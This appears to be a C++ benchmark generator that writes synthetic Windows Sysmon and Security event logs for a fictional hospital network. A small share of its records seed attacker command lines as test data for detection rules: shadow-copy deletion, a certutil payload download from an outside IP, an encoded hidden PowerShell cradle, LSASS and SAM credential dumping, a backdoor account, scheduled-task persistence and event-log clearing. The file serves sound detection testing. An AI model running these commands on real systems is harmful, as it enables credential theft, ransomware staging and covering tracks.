#include "bench/windows_events.h"

#include <array>
#include <cstdio>
#include <memory>
#include <random>
#include <string>
#include <string_view>

#include <fmt/format.h>

namespace ward::bench {
namespace {

struct Program {
  std::string_view image, original_name, description, company, args;
  std::string_view parent = "C:\\Windows\\explorer.exe";  // the usual parent
};

constexpr std::array kPrograms = {
    Program{"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services", "Microsoft Corporation", "-k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe"},
    Program{"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services", "Microsoft Corporation", "-k LocalServiceNetworkRestricted -p", "C:\\Windows\\System32\\services.exe"},
    Program{"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "Google LLC", "--type=renderer --lang=en-US --renderer-client-id={n}", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
    Program{"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge", "Microsoft Corporation", "--type=utility --utility-sub-type=network.mojom.NetworkService", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"},
    Program{"C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer", "Microsoft Corporation", "", "C:\\Windows\\System32\\userinit.exe"},
    Program{"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", "Microsoft Corporation", "/recycle"},
    Program{"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word", "Microsoft Corporation", "/n \"C:\\Users\\{user}\\Documents\\discharge_{n}.docx\""},
    Program{"C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "Console Window Host", "Microsoft Corporation", "0xffffffff", "C:\\Windows\\System32\\cmd.exe"},
    Program{"C:\\Windows\\System32\\RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", "Microsoft Corporation", "-Embedding", "C:\\Windows\\System32\\svchost.exe"},
    Program{"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", "Microsoft Corporation", "Install $(Arg0)", "C:\\Windows\\System32\\svchost.exe"},
    Program{"C:\\Windows\\System32\\SearchProtocolHost.exe", "searchprotocolhost.exe", "Microsoft Windows Search Protocol Host", "Microsoft Corporation", "Global\\UsGthrFltPipeMssGthrPipe{n}", "C:\\Windows\\System32\\SearchIndexer.exe"},
    Program{"C:\\Windows\\System32\\dllhost.exe", "dllhost.exe", "COM Surrogate", "Microsoft Corporation", "/Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}}", "C:\\Windows\\System32\\svchost.exe"},
    Program{"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", "MsMpEng.exe", "Antimalware Service Executable", "Microsoft Corporation", "", "C:\\Windows\\System32\\services.exe"},
    Program{"C:\\Program Files (x86)\\Epic\\Hyperdrive\\Hyperdrive.exe", "Hyperdrive.exe", "Epic Hyperdrive", "Epic Systems Corporation", "-env=PRD -dept={n}"},
    Program{"C:\\Program Files\\Citrix\\ICA Client\\wfica32.exe", "wfica32.exe", "Citrix HDX Engine", "Citrix Systems, Inc.", "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\launch{n}.ica\""},
    Program{"C:\\Windows\\System32\\notepad.exe", "NOTEPAD.EXE", "Notepad", "Microsoft Corporation", "C:\\Users\\{user}\\Desktop\\notes.txt"},
    Program{"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", "Microsoft Corporation", "-NoProfile -File C:\\Scripts\\inventory.ps1"},
    Program{"C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "Windows Command Processor", "Microsoft Corporation", "/c dir C:\\Users\\{user}\\Documents"},
    Program{"C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows installer", "Microsoft Corporation", "/V", "C:\\Windows\\System32\\services.exe"},
    Program{"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation", "/background"},
};

// Command lines that SigmaHQ rules flag, with the program that runs them.
constexpr std::array kSuspicious = {
    Program{"C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft Volume Shadow Copy Service", "Microsoft Corporation", "delete shadows /all /quiet"},
    Program{"C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "CertUtil.exe", "Microsoft Corporation", "-urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"},
    Program{"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", "Microsoft Corporation", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"},
    Program{"C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", "Microsoft Corporation", "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full"},
    Program{"C:\\Windows\\System32\\reg.exe", "reg.exe", "Registry Console Tool", "Microsoft Corporation", "save HKLM\\SAM C:\\Windows\\Temp\\sam.save"},
    Program{"C:\\Windows\\System32\\net.exe", "net.exe", "Net Command", "Microsoft Corporation", "user backdoor P@ssw0rd! /add"},
    Program{"C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", "Microsoft Corporation", "/create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\upd.exe"},
    Program{"C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility", "Microsoft Corporation", "cl Security"},
};

constexpr std::array kFileTargets = {
    std::string_view("C:\\Users\\{user}\\AppData\\Local\\Temp\\~DF{n}.TMP"), std::string_view("C:\\Users\\{user}\\Downloads\\lab_results_{n}.pdf"),
    std::string_view("C:\\Windows\\Prefetch\\CHROME.EXE-{n}.pf"), std::string_view("C:\\ProgramData\\Epic\\Cache\\{n}.dat"),
};
constexpr std::array kIntegrity = {std::string_view("Medium"), std::string_view("High"), std::string_view("System")};

// JSON string content: backslashes and quotes escaped (the generator writes no control bytes).
std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (char c : s) {
    if (c == '\\' || c == '"') out += '\\';
    out += c;
  }
  return out;
}

class Writer {
 public:
  Writer(std::FILE* out, std::uint64_t seed) : out_(out), rng_(seed) {}

  void record(std::uint64_t i) {
    const std::uint64_t kind = pick(1000);
    user_ = fmt::format("{}{:03}", kUsers[pick(kUsers.size())], pick(400));
    host_ = fmt::format("WS-{}-{:04}", kUnits[pick(kUnits.size())], pick(3000));
    time_ = fmt::format("2026-11-{:02}T{:02}:{:02}:{:02}.{:06}Z", 1 + i / 2'000'000 % 28, i / 80'000 % 24, i / 1'300 % 60,
                        i / 22 % 60, pick(1'000'000));
    if (kind < 2) process_creation(kSuspicious[pick(kSuspicious.size())], i);
    else if (kind < 600) process_creation(kPrograms[pick(kPrograms.size())], i);
    else if (kind < 720) security_process(kPrograms[pick(kPrograms.size())], i);
    else if (kind < 870) logon(i);
    else if (kind < 940) network(i);
    else file_create(i);
  }

 private:
  static constexpr std::array<std::string_view, 8> kUsers = {"anurse", "bdoctor", "cclerk", "dpharm", "eradiol", "flab", "gadmin", "hsec"};
  static constexpr std::array<std::string_view, 6> kUnits = {"ICU", "ER", "RAD", "LAB", "ADM", "PHARM"};

  std::uint64_t pick(std::uint64_t n) { return rng_() % n; }
  std::string fill(std::string_view pattern) {
    std::string out(pattern);
    for (std::size_t p; (p = out.find("{user}")) != std::string::npos;) out.replace(p, 6, user_);
    for (std::size_t p; (p = out.find("{n}")) != std::string::npos;) out.replace(p, 3, std::to_string(pick(100000)));
    for (std::size_t p; (p = out.find("{{")) != std::string::npos;) out.replace(p, 2, "{");
    for (std::size_t p; (p = out.find("}}")) != std::string::npos;) out.replace(p, 2, "}");
    return out;
  }
  std::string guid() {
    return fmt::format("{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}", pick(1ull << 32), pick(1 << 16), pick(1 << 16), pick(1 << 16),
                       pick(1ull << 48));
  }
  std::string hex(int digits) {
    std::string out;
    while (static_cast<int>(out.size()) < digits) out += fmt::format("{:016X}", rng_());
    out.resize(static_cast<std::size_t>(digits));
    return out;
  }
  std::string quoted_command_line(const Program& p) {
    const std::string args = fill(p.args);
    return args.empty() ? fmt::format("\"{}\"", p.image) : fmt::format("\"{}\" {}", p.image, args);
  }

  void system(int event_id, std::string_view provider, std::string_view guid_text, std::string_view channel, std::uint64_t i) {
    fmt::print(out_,
               R"j({{"Event":{{"#attributes":{{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"}},"System":{{"Provider":{{"#attributes":{{"Name":"{}","Guid":"{}"}}}},"EventID":{},"Version":5,"Level":4,"Task":{},"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{{"#attributes":{{"SystemTime":"{}"}}}},"EventRecordID":{},"Correlation":null,"Execution":{{"#attributes":{{"ProcessID":{},"ThreadID":{}}}}},"Channel":"{}","Computer":"{}.hospital.example","Security":{{"#attributes":{{"UserID":"S-1-5-18"}}}}}},)j",
               provider, guid_text, event_id, event_id, time_, 100000 + i, 1000 + pick(8000), 1000 + pick(8000), channel,
               host_);
  }
  void sysmon(int event_id, std::uint64_t i) {
    system(event_id, "Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Microsoft-Windows-Sysmon/Operational", i);
  }
  void security(int event_id, std::uint64_t i) {
    system(event_id, "Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Security", i);
  }

  void process_creation(const Program& p, std::uint64_t i) {
    sysmon(1, i);
    const std::string_view parent = p.parent;
    fmt::print(out_,
               R"j("EventData":{{"RuleName":"-","UtcTime":"{}","ProcessGuid":"{}","ProcessId":{},"Image":"{}","FileVersion":"10.0.19041.{} (WinBuild.160101.0800)","Description":"{}","Product":"Microsoft® Windows® Operating System","Company":"{}","OriginalFileName":"{}","CommandLine":"{}","CurrentDirectory":"C:\\Users\\{}\\","User":"HOSPITAL\\{}","LogonGuid":"{}","LogonId":"0x{:X}","TerminalSessionId":1,"IntegrityLevel":"{}","Hashes":"SHA1={},MD5={},SHA256={},IMPHASH={}","ParentProcessGuid":"{}","ParentProcessId":{},"ParentImage":"{}","ParentCommandLine":"{}","ParentUser":"HOSPITAL\\{}"}}}}}})j"
               "\n",
               time_, guid(), 1000 + pick(60000), json_escape(p.image), pick(5000), json_escape(p.description), json_escape(p.company),
               json_escape(p.original_name), json_escape(quoted_command_line(p)), user_, user_, guid(), pick(1u << 24),
               kIntegrity[pick(kIntegrity.size())], hex(40), hex(32), hex(64), hex(32), guid(), 1000 + pick(60000),
               json_escape(parent), json_escape(parent), user_);
  }
  void security_process(const Program& p, std::uint64_t i) {
    security(4688, i);
    fmt::print(out_,
               R"j("EventData":{{"SubjectUserSid":"S-1-5-21-3623811015-3361044348-30300820-{}","SubjectUserName":"{}","SubjectDomainName":"HOSPITAL","SubjectLogonId":"0x{:X}","NewProcessId":"0x{:X}","NewProcessName":"{}","TokenElevationType":"%%1938","ProcessId":"0x{:X}","CommandLine":"{}","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"{}","MandatoryLabel":"S-1-16-8192"}}}}}})j"
               "\n",
               1000 + pick(9000), user_, pick(1u << 24), pick(1u << 16), json_escape(p.image), pick(1u << 16),
               json_escape(quoted_command_line(p)), json_escape(p.parent));
  }
  void logon(std::uint64_t i) {
    security(4624, i);
    fmt::print(out_,
               R"j("EventData":{{"SubjectUserSid":"S-1-5-18","SubjectUserName":"{}$","SubjectDomainName":"HOSPITAL","SubjectLogonId":"0x3E7","TargetUserSid":"S-1-5-21-3623811015-3361044348-30300820-{}","TargetUserName":"{}","TargetDomainName":"HOSPITAL","TargetLogonId":"0x{:X}","LogonType":{},"LogonProcessName":"{}","AuthenticationPackageName":"{}","WorkstationName":"{}","LogonGuid":"{}","TransmittedServices":"-","LmPackageName":"-","KeyLength":0,"ProcessId":"0x{:X}","ProcessName":"C:\\Windows\\System32\\svchost.exe","IpAddress":"10.{}.{}.{}","IpPort":"{}","ImpersonationLevel":"%%1833","ElevatedToken":"%%1842"}}}}}})j"
               "\n",
               host_, 1000 + pick(9000), user_, pick(1u << 24), std::array{2, 3, 3, 3, 10, 11}[pick(6)],
               pick(2) ? "Kerberos" : "User32 ", pick(3) ? "Kerberos" : "Negotiate", host_, guid(), pick(1u << 16), pick(256),
               pick(256), pick(256), pick(65536));
  }
  void network(std::uint64_t i) {
    sysmon(3, i);
    const Program& p = kPrograms[std::array{0, 2, 3, 5, 13, 14, 19}[pick(7)]];  // services, browsers, Outlook, Epic, Citrix, OneDrive
    fmt::print(out_,
               R"j("EventData":{{"RuleName":"-","UtcTime":"{}","ProcessGuid":"{}","ProcessId":{},"Image":"{}","User":"HOSPITAL\\{}","Protocol":"tcp","Initiated":true,"SourceIsIpv6":false,"SourceIp":"10.{}.{}.{}","SourceHostname":"{}.hospital.example","SourcePort":{},"SourcePortName":"-","DestinationIsIpv6":false,"DestinationIp":"10.{}.{}.{}","DestinationHostname":"ehr-{}.hospital.example","DestinationPort":{},"DestinationPortName":"-"}}}}}})j"
               "\n",
               time_, guid(), 1000 + pick(60000), json_escape(p.image), user_, pick(256), pick(256), pick(256), host_,
               49152 + pick(16000), pick(256), pick(256), pick(256), pick(40), std::array{443, 443, 80, 445, 88, 389}[pick(6)]);
  }
  void file_create(std::uint64_t i) {
    sysmon(11, i);
    const Program& p = kPrograms[pick(kPrograms.size())];
    fmt::print(out_,
               R"j("EventData":{{"RuleName":"-","UtcTime":"{}","ProcessGuid":"{}","ProcessId":{},"Image":"{}","TargetFilename":"{}","CreationUtcTime":"{}","User":"HOSPITAL\\{}"}}}}}})j"
               "\n",
               time_, guid(), 1000 + pick(60000), json_escape(p.image), json_escape(fill(kFileTargets[pick(kFileTargets.size())])),
               time_, user_);
  }

  std::FILE* out_;
  std::mt19937_64 rng_;
  std::string user_, host_, time_;
};

}  // namespace

Result<void> write_windows_events(const std::filesystem::path& file, std::uint64_t count, std::uint64_t seed) {
  std::unique_ptr<std::FILE, int (*)(std::FILE*)> out(std::fopen(file.c_str(), "wb"), &std::fclose);
  if (!out) return fail(ErrorCode::io, "cannot create the benchmark input", file.string());
  Writer writer(out.get(), seed);
  for (std::uint64_t i = 0; i < count; ++i) writer.record(i);
  if (std::fflush(out.get()) != 0 || std::ferror(out.get()))
    return fail(ErrorCode::io, "cannot write the benchmark input", file.string());
  return {};
}

}  // namespace ward::bench
